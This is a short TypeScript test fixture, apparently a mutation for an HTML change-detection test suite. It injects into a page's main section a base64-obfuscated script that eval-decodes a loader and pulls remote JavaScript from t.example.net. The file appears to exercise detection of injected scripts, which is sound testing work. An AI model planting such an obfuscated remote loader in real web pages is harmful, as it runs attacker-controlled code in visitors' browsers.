import { inMain } from '../../testing/changes/html.js';
import type { Mutation } from '../../testing/mutation.js';

const LOADER = "var s=document.createElement('script');s.src='https://t.example.net/t.js';document.head.append(s)";

export default {
  mutate: inMain(`<script>eval(atob("${Buffer.from(LOADER).toString('base64')}"))</script>`),
} satisfies Mutation;
